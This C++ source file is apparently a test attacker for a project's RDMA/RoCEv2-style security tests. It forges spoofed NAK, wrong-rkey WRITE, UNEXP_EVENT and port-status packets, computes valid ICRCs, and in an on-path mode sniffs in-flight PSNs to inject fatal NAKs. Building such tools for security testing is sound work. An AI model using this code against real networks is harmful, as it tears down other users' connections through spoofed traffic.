// mrc_forge: an attacker for the attack tests (tests/security/). It knows the addresses and the
// software but no secret. Blind, it sweeps QPNs from 0x10 and PSNs in steps; on the path (--watch),
// it reads the PSNs off the victim's own data packets. It builds every packet with the project's own
// encoder (so the tests follow the wire format wherever it goes).
//
//   mrc_forge --mode write|nak|unexp|port-status --to ADDR[:PORT][,ADDR[:PORT]...] --from ADDR
//             [--spoof] [--qpn LO-HI] [--psn-step N] [--mask M] [--repeat N] [--max N] [--pps N]
//             [--watch IFACE|any] [--timeout S]
//
// write        WRITE_ONLY with a wrong rkey at every PSN step (the responder NAKs the real peer)
// nak          AETH NAK "remote access error" at every PSN step, straight to a requester
// unexp        NACK UNEXP_EVENT at every PSN step
// port-status  endpoint port-status updates with port mask M
// Without --spoof the datagrams leave from a UDP socket bound to --from (on loopback any 127.x
// address is local, so that is the peer's own address); with --spoof, from a raw IPv4 socket that
// writes --from into the IP header (root), for an attacker on another host. --pps paces the sweep
// (a flood faster than the target drains its socket would mostly be dropped by the kernel).
//
// --watch (nak only; root): an on-path attacker. A packet socket on IFACE (any: every interface of
// this network namespace) sees the data packets the first --to address sends to --from; for each of
// --repeat of them, a NAK naming its PSN goes straight back to --to, while that PSN is certainly in
// flight. A blind sweep hits the window only by chance (the tests' check that forged NAKs reached the
// QP needs one hit); this hits it every time. Exit status 1 if fewer than --repeat data packets went
// by within --timeout seconds (default 10).
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "common/psn.hpp"
#include "common/rng.hpp"
#include "wire/packet.hpp"

using namespace mrc;

namespace {

struct Options {
  std::string mode;
  std::vector<sockaddr_in> to;
  in_addr from{};
  bool spoof = false;
  std::uint32_t qpn_lo = 0x10, qpn_hi = 0x18;
  std::uint32_t psn_step = 1024;
  std::uint32_t mask = 0;
  std::uint32_t repeat = 1;
  std::uint64_t max = 2'000'000;
  std::uint64_t pps = 0;  ///< 0 = as fast as the socket takes them
  std::string watch;      ///< on-path: the interface to read the victim's PSNs on ("" = blind)
  double timeout_s = 10;  ///< --watch: how long to wait for --repeat data packets
};

[[noreturn]] void usage(const char* why) {
  std::fprintf(stderr, "mrc_forge: %s\n(see the comment at the top of tests/security/mrc_forge.cpp)\n", why);
  std::exit(2);
}

std::uint64_t number(const char* s, const char* what) {
  char* end = nullptr;
  errno = 0;
  const unsigned long long v = std::strtoull(s, &end, 0);
  if (errno != 0 || end == s || *end != '\0') usage(what);
  return v;
}

Options parse(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto val = [&]() -> const char* {
      if (i + 1 >= argc) usage(("missing value for " + a).c_str());
      return argv[++i];
    };
    if (a == "--mode") {
      o.mode = val();
    } else if (a == "--to") {
      std::string list = val();
      for (std::size_t at = 0; at <= list.size();) {
        const std::size_t end = std::min(list.find(',', at), list.size());
        std::string item = list.substr(at, end - at);
        sockaddr_in sa{};
        sa.sin_family = AF_INET;
        sa.sin_port = htons(wire::kRoceUdpPort);
        if (const auto colon = item.find(':'); colon != std::string::npos) {
          sa.sin_port = htons(static_cast<std::uint16_t>(number(item.c_str() + colon + 1, "bad port")));
          item.resize(colon);
        }
        if (::inet_pton(AF_INET, item.c_str(), &sa.sin_addr) != 1) usage("--to takes IPv4 addresses");
        o.to.push_back(sa);
        at = end + 1;
      }
    } else if (a == "--from") {
      if (::inet_pton(AF_INET, val(), &o.from) != 1) usage("--from takes an IPv4 address");
    } else if (a == "--spoof") {
      o.spoof = true;
    } else if (a == "--qpn") {
      const std::string r = val();
      const auto dash = r.find('-');
      if (dash == std::string::npos) usage("--qpn takes LO-HI");
      o.qpn_lo = static_cast<std::uint32_t>(number(r.substr(0, dash).c_str(), "bad --qpn"));
      o.qpn_hi = static_cast<std::uint32_t>(number(r.substr(dash + 1).c_str(), "bad --qpn"));
    } else if (a == "--psn-step") {
      o.psn_step = static_cast<std::uint32_t>(number(val(), "bad --psn-step"));
    } else if (a == "--mask") {
      o.mask = static_cast<std::uint32_t>(number(val(), "bad --mask"));
    } else if (a == "--repeat") {
      o.repeat = static_cast<std::uint32_t>(number(val(), "bad --repeat"));
    } else if (a == "--max") {
      o.max = number(val(), "bad --max");
    } else if (a == "--pps") {
      o.pps = number(val(), "bad --pps");
    } else if (a == "--watch") {
      o.watch = val();
    } else if (a == "--timeout") {
      o.timeout_s = static_cast<double>(number(val(), "bad --timeout"));
    } else {
      usage(("unknown argument " + a).c_str());
    }
  }
  if (o.to.empty() || o.from.s_addr == 0) usage("--to and --from are required");
  if (o.psn_step == 0 || o.qpn_hi < o.qpn_lo) usage("bad --psn-step or --qpn");
  if (o.mode != "write" && o.mode != "nak" && o.mode != "unexp" && o.mode != "port-status")
    usage("bad --mode");
  if (!o.watch.empty() && o.mode != "nak") usage("--watch goes with --mode nak");
  return o;
}

/// The Internet checksum of the UDP pseudo-header, header and payload (IPv4).
std::uint16_t udp_checksum(in_addr src, in_addr dst, const std::uint8_t* udp, std::size_t len) {
  std::uint64_t sum = 0;
  auto add = [&](const std::uint8_t* p, std::size_t n) {
    for (std::size_t i = 0; i + 1 < n; i += 2) sum += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
    if (n & 1) sum += static_cast<std::uint32_t>(p[n - 1] << 8);
  };
  add(reinterpret_cast<const std::uint8_t*>(&src), 4);
  add(reinterpret_cast<const std::uint8_t*>(&dst), 4);
  sum += IPPROTO_UDP + len;
  add(udp, len);
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  const auto c = static_cast<std::uint16_t>(~sum);
  return c == 0 ? 0xFFFF : c;
}

double now_s() {
  timespec t{};
  ::clock_gettime(CLOCK_MONOTONIC, &t);
  return static_cast<double>(t.tv_sec) + static_cast<double>(t.tv_nsec) * 1e-9;
}

class Sender {
 public:
  explicit Sender(const Options& o) : o_(o) {
    fd_ = o.spoof ? ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : ::socket(AF_INET, SOCK_DGRAM, 0);
    if (fd_ < 0) {
      std::perror("mrc_forge: socket");
      std::exit(1);
    }
    if (!o.spoof) {
      sockaddr_in me{};
      me.sin_family = AF_INET;
      me.sin_addr = o.from;
      socklen_t len = sizeof me_;
      if (::bind(fd_, reinterpret_cast<const sockaddr*>(&me), sizeof me) != 0 ||
          ::getsockname(fd_, reinterpret_cast<sockaddr*>(&me_), &len) != 0) {
        std::perror("mrc_forge: bind --from");
        std::exit(1);
      }
    }
  }
  /// The receiver checks RoCEv2's ICRC, over the IP/UDP headers too (docs/wire-format.md W22): a blind
  /// attacker computes it like anyone (any IPv4 ID is accepted, so the kernel's is fine).
  void fold_rocev2(std::vector<std::uint8_t>& pkt, std::uint16_t sport_be, const sockaddr_in& to) const {
    if (pkt.size() < 16) return;
    std::uint8_t pre[wire::kMaskedIpv4UdpSize];
    wire::masked_ipv4_udp(pre, reinterpret_cast<const std::uint8_t*>(&o_.from),
                          reinterpret_cast<const std::uint8_t*>(&to.sin_addr), ntohs(sport_be),
                          ntohs(to.sin_port), pkt.size());
    const std::uint32_t x = wire::icrc_prefix_xor(pre, pkt.size() - wire::kIcrcSize);
    for (std::size_t i = 0; i < wire::kIcrcSize; ++i)
      pkt[pkt.size() - wire::kIcrcSize + i] ^= static_cast<std::uint8_t>(x >> (8 * i));
  }
  ~Sender() { ::close(fd_); }
  void send(std::vector<std::uint8_t> pkt, const sockaddr_in& to) {
    pace();
    if (!o_.spoof) {
      fold_rocev2(pkt, me_.sin_port, to);
      if (::sendto(fd_, pkt.data(), pkt.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) < 0)
        ++errors_;
      return;
    }
    const auto sport = htons(static_cast<std::uint16_t>(49152 + (sent_ & 0x3FFF)));
    fold_rocev2(pkt, sport, to);
    std::vector<std::uint8_t> d(sizeof(iphdr) + sizeof(udphdr) + pkt.size());
    auto* ip = reinterpret_cast<iphdr*>(d.data());
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(static_cast<std::uint16_t>(d.size()));
    ip->saddr = o_.from.s_addr;
    ip->daddr = to.sin_addr.s_addr;  // the kernel fills the id and the header checksum
    ip->frag_off = htons(IP_DF);     // as RoCEv2's ICRC (W22) expects
    auto* u = reinterpret_cast<udphdr*>(d.data() + sizeof(iphdr));
    u->source = sport;
    u->dest = to.sin_port;
    u->len = htons(static_cast<std::uint16_t>(sizeof(udphdr) + pkt.size()));
    std::memcpy(d.data() + sizeof(iphdr) + sizeof(udphdr), pkt.data(), pkt.size());
    u->check =
        htons(udp_checksum(o_.from, to.sin_addr, d.data() + sizeof(iphdr), sizeof(udphdr) + pkt.size()));
    if (::sendto(fd_, d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) < 0)
      ++errors_;
  }
  std::uint64_t sent_ = 0, errors_ = 0;

 private:
  /// Keeps the average rate at --pps: every 32 packets, sleeps until they are due.
  void pace() {
    if (o_.pps == 0 || (sent_ & 31) != 0) return;
    if (start_ == 0) start_ = now_s();
    const double due = start_ + static_cast<double>(sent_) / static_cast<double>(o_.pps);
    const double wait = due - now_s();
    if (wait > 0) {
      const timespec t{static_cast<time_t>(wait),
                       static_cast<long>((wait - static_cast<double>(static_cast<time_t>(wait))) * 1e9)};
      ::nanosleep(&t, nullptr);
    }
  }
  double start_ = 0;
  const Options& o_;
  int fd_ = -1;
  sockaddr_in me_{};  ///< the bound address and port (without --spoof)
};

/// --watch: the PSNs of the data packets `victim` sends to `peer`, read by a packet socket (IP
/// layer, no link header) on one interface or all of them.
class Watcher {
 public:
  Watcher(const std::string& iface, in_addr victim, in_addr peer) : victim_(victim), peer_(peer) {
    fd_ = ::socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (fd_ < 0) {
      std::perror("mrc_forge: --watch needs a packet socket (root)");
      std::exit(1);
    }
    if (iface != "any") {
      sockaddr_ll ll{};
      ll.sll_family = AF_PACKET;
      ll.sll_protocol = htons(ETH_P_IP);
      ll.sll_ifindex = static_cast<int>(::if_nametoindex(iface.c_str()));
      if (ll.sll_ifindex == 0 || ::bind(fd_, reinterpret_cast<const sockaddr*>(&ll), sizeof ll) != 0) {
        std::fprintf(stderr, "mrc_forge: --watch %s: no such interface here\n", iface.c_str());
        std::exit(1);
      }
    }
    const timeval tick{0, 100'000};  // wake up to check the deadline
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
  }
  ~Watcher() { ::close(fd_); }
  /// The PSN of the next data packet seen before `deadline` (CLOCK_MONOTONIC seconds), or -1.
  std::int64_t next_psn(double deadline) {
    alignas(8) std::uint8_t b[512];  // the headers are all it reads (a longer packet is truncated)
    while (now_s() < deadline) {
      const ssize_t n = ::recv(fd_, b, sizeof b, 0);
      if (n < static_cast<ssize_t>(sizeof(iphdr))) continue;
      iphdr ip;
      std::memcpy(&ip, b, sizeof ip);
      const std::size_t bth = std::size_t{ip.ihl} * 4 + sizeof(udphdr);
      if (ip.version != 4 || ip.protocol != IPPROTO_UDP || ip.saddr != victim_.s_addr ||
          ip.daddr != peer_.s_addr || static_cast<std::size_t>(n) < bth + 12)
        continue;
      if (!wire::is_data(static_cast<wire::Opcode>(b[bth]))) continue;
      ++seen_;
      return std::int64_t{b[bth + 9]} << 16 | std::int64_t{b[bth + 10]} << 8 | b[bth + 11];  // BTH PSN
    }
    return -1;
  }
  std::uint64_t seen_ = 0;

 private:
  int fd_ = -1;
  in_addr victim_, peer_;
};

std::vector<std::uint8_t> encode(const wire::Packet& p) {
  std::vector<std::uint8_t> b(wire::kMaxHeaderSize + p.payload.size() + 8);
  wire::Error err = wire::Error::kOk;
  const std::size_t n = wire::encode(p, b, &err);
  if (n == 0) {
    std::fprintf(stderr, "mrc_forge: the encoder refused a packet: %s\n", wire::to_string(err));
    std::exit(1);
  }
  b.resize(n);
  return b;
}

}  // namespace

/// --watch: a fatal NAK for each of --repeat PSNs the victim has in flight (a PSN seen twice, on
/// its way in and out of a router, is named once).
int nak_on_path(const Options& o, Sender& s) {
  Watcher w(o.watch, o.to.front().sin_addr, o.from);
  const double deadline = now_s() + o.timeout_s;
  std::int64_t last = -1;
  std::uint32_t named = 0;
  while (named < o.repeat) {
    const std::int64_t psn = w.next_psn(deadline);
    if (psn < 0) break;
    if (psn == last) continue;
    last = psn;
    wire::Packet p;
    p.bth.opcode = wire::Opcode::kAck;
    p.bth.dest_qp = o.qpn_lo;
    p.bth.psn = static_cast<std::uint32_t>(psn);
    p.aeth.syndrome = wire::aeth::kNakRemoteAccessError;
    s.send(encode(p), o.to.front());
    ++s.sent_;
    ++named;
  }
  std::printf(
      "mrc_forge: nak on path (%s): %llu data packets seen, %u PSNs in flight named, %llu refused by "
      "the kernel\n",
      o.watch.c_str(), static_cast<unsigned long long>(w.seen_), named,
      static_cast<unsigned long long>(s.errors_));
  if (named < o.repeat) {
    std::fprintf(stderr, "mrc_forge: --watch: only %u of %u data packets went by in %.0f s\n", named,
                 o.repeat, o.timeout_s);
    return 1;
  }
  return 0;
}

int main(int argc, char** argv) {
  const Options o = parse(argc, argv);
  Sender s(o);
  if (!o.watch.empty()) return nak_on_path(o, s);
  Rng rng(0xF0F0 ^ o.psn_step);
  static const std::uint8_t junk[64] = {};
  for (std::uint32_t rep = 0; rep < o.repeat && s.sent_ < o.max; ++rep) {
    if (o.mode == "port-status") {
      wire::Packet p;
      p.bth.opcode = wire::Opcode::kEndpointRequest;
      p.bth.dest_qp = wire::kEpQpn;
      p.erth.op = wire::EpOp::kPortStatusUpdate;
      p.erth.port_status_mask = o.mask;
      const auto bytes = encode(p);
      for (const sockaddr_in& t : o.to) {
        s.send(bytes, t);
        ++s.sent_;
      }
      continue;
    }
    for (std::uint32_t qpn = o.qpn_lo; qpn <= o.qpn_hi && s.sent_ < o.max; ++qpn) {
      for (std::uint64_t psn = rep % o.psn_step; psn <= kPsnMask && s.sent_ < o.max; psn += o.psn_step) {
        wire::Packet p;
        p.bth.dest_qp = qpn;
        p.bth.psn = static_cast<std::uint32_t>(psn);
        if (o.mode == "write") {
          p.bth.opcode = wire::Opcode::kWriteOnly;
          p.bth.ack_req = true;
          p.reth.va = rng.next();
          p.reth.rkey = static_cast<std::uint32_t>(rng.next());
          p.reth.dma_len = sizeof junk;
          p.payload = junk;
        } else if (o.mode == "nak") {
          p.bth.opcode = wire::Opcode::kAck;
          p.aeth.syndrome = wire::aeth::kNakRemoteAccessError;
        } else {
          p.bth.opcode = wire::Opcode::kNack;
          p.neth.nack_psn = p.bth.psn;
          p.neth.reason = wire::NackReason::kUnexpEvent;
        }
        const auto bytes = encode(p);
        for (const sockaddr_in& t : o.to) {
          s.send(bytes, t);
          ++s.sent_;
        }
      }
    }
  }
  std::printf("mrc_forge: %s: %llu packets sent, %llu refused by the kernel\n", o.mode.c_str(),
              static_cast<unsigned long long>(s.sent_), static_cast<unsigned long long>(s.errors_));
  return 0;
}
